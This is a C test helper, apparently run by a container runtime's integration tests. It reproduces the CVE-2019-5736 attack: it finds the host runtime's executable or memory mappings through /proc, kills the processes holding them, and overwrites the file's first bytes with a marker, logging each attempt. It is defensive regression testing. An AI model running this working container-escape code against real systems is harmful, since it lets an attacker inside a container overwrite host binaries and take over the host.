/* exe-grabber OUTDIR SECONDS [PID [maps|allmaps]]: the CVE-2019-5736 attacker, run inside a container by
 * tests/integration/security.bats. For SECONDS it watches every process in its /proc (or only PID) whose
 * /proc/N/exe is not a file of its own root (with PID: that one's, whatever it is), keeps that exe open
 * (O_PATH) and, once nothing runs the file any more (ETXTBSY ends), opens it for writing through
 * /proc/self/fd and writes a marker over its first bytes. Appends to OUTDIR/log: "opened DEV:INO" per grab,
 * "wrote DEV:INO" on a successful write, "refused DEV:INO ERRNO" for the last error per file. Static: runs in
 * a bare rootfs. It ends early once OUTDIR/stop exists (a test done with its rounds: on a slow machine
 * SECONDS can then be generous). With "maps" it also grabs every /proc/PID/map_files entry that is the same
 * file as the exe ("opened DEV:INO map RANGE"): a mapping of the writable host binary is as good as its exe
 * to an attacker with CAP_SYS_ADMIN. With "allmaps", every other file mapped there too ("opened DEV:INO
 * other RANGE"), such as the sealed memfd holding the copy of husk's data segment. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_GRABS 32

struct grab {
	int fd;
	dev_t dev;
	ino_t ino;
	int last_errno;
	int done;
};

static struct grab grabs[MAX_GRABS];
static int n_grabs;
static FILE *out;
static struct stat self_st, busybox_st;
static int scan_all;  /* no PID given: skip the programs of our own root */
static int scan_maps; /* "maps": the exe's mappings too; 2 ("allmaps"): every mapped file */

static void grab_maps(const char *pid, const struct stat *exe)
{
	char path[512];
	struct dirent *e;
	struct stat st;
	DIR *d;

	snprintf(path, sizeof path, "/proc/%s/map_files", pid);
	d = opendir(path);
	while (d && (e = readdir(d)) != NULL && n_grabs < MAX_GRABS) {
		int fd, same;
		if (e->d_name[0] == '.')
			continue;
		snprintf(path, sizeof path, "/proc/%s/map_files/%s", pid, e->d_name);
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (fstat(fd, &st) < 0 || !S_ISREG(st.st_mode)) {
			close(fd);
			continue;
		}
		same = st.st_dev == exe->st_dev && st.st_ino == exe->st_ino;
		if (!same && scan_maps < 2) {
			close(fd);
			continue;
		}
		grabs[n_grabs++] = (struct grab){ .fd = fd, .dev = st.st_dev, .ino = st.st_ino };
		fprintf(out, "opened %lu:%lu %s %s\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino,
			same ? "map" : "other", e->d_name);
	}
	if (d)
		closedir(d);
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* A program of the container's own root (its link names a path that is the same file here): not the
 * runtime's. */
static int own_file(const char *exe_link, const struct stat *st)
{
	char target[4096];
	struct stat t;
	ssize_t n = readlink(exe_link, target, sizeof target - 1);

	if (n <= 0)
		return 0;
	target[n] = '\0';
	return stat(target, &t) == 0 && t.st_dev == st->st_dev && t.st_ino == st->st_ino;
}

static void try_pid(const char *pid)
{
	char path[64];
	struct stat st;
	int fd;

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &st) < 0 || (st.st_dev == self_st.st_dev && st.st_ino == self_st.st_ino) ||
	    (st.st_dev == busybox_st.st_dev && st.st_ino == busybox_st.st_ino) ||
	    (scan_all && own_file(path, &st))) {
		close(fd);
		return;
	}
	for (int i = 0; i < n_grabs; i++)
		if (grabs[i].dev == st.st_dev && grabs[i].ino == st.st_ino) {
			close(fd);
			return;
		}
	if (n_grabs == MAX_GRABS) {
		close(fd);
		return;
	}
	grabs[n_grabs++] = (struct grab){ .fd = fd, .dev = st.st_dev, .ino = st.st_ino };
	fprintf(out, "opened %lu:%lu pid %s\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino, pid);
	if (scan_maps)
		grab_maps(pid, &st);
	fflush(out);
	/* end it, so only the host's runtime (if any) still keeps the file busy */
	if (strcmp(pid, "1") != 0)
		kill(atoi(pid), SIGKILL);
}

static void try_write(struct grab *g)
{
	char path[64];
	int fd;

	snprintf(path, sizeof path, "/proc/self/fd/%d", g->fd);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd >= 0 && pwrite(fd, "PWNED", 5, 0) == 5) {
		fprintf(out, "wrote %lu:%lu\n", (unsigned long)g->dev, (unsigned long)g->ino);
		fflush(out);
		g->done = 1;
	} else {
		g->last_errno = errno;
	}
	if (fd >= 0)
		close(fd);
}

int main(int argc, char **argv)
{
	char logpath[4096], stoppath[4096];
	double end;

	if (argc < 3)
		return 2;
	snprintf(logpath, sizeof logpath, "%s/log", argv[1]);
	snprintf(stoppath, sizeof stoppath, "%s/stop", argv[1]);
	out = fopen(logpath, "a");
	if (out == NULL || stat("/proc/self/exe", &self_st) < 0)
		return 1;
	stat("/bin/busybox", &busybox_st);
	end = now() + atof(argv[2]);
	scan_all = argc <= 3;
	if (argc > 4 && strcmp(argv[4], "maps") == 0)
		scan_maps = 1;
	else if (argc > 4 && strcmp(argv[4], "allmaps") == 0)
		scan_maps = 2;
	fprintf(out, "started\n");
	fflush(out);
	while (now() < end && access(stoppath, F_OK) < 0) {
		if (argc > 3) {
			try_pid(argv[3]);
		} else {
			DIR *d = opendir("/proc");
			struct dirent *e;
			while (d && (e = readdir(d)) != NULL)
				if (e->d_name[0] >= '0' && e->d_name[0] <= '9' && atoi(e->d_name) != getpid())
					try_pid(e->d_name);
			if (d)
				closedir(d);
		}
		for (int i = 0; i < n_grabs; i++)
			if (!grabs[i].done)
				try_write(&grabs[i]);
	}
	/* once more at the end: a stop can come right after the round that ended the grabbed program */
	for (int i = 0; i < n_grabs; i++)
		if (!grabs[i].done)
			try_write(&grabs[i]);
	for (int i = 0; i < n_grabs; i++)
		if (!grabs[i].done)
			fprintf(out, "refused %lu:%lu %s\n", (unsigned long)grabs[i].dev,
				(unsigned long)grabs[i].ino, strerror(grabs[i].last_errno));
	fprintf(out, "done\n");
	fclose(out);
	return 0;
}
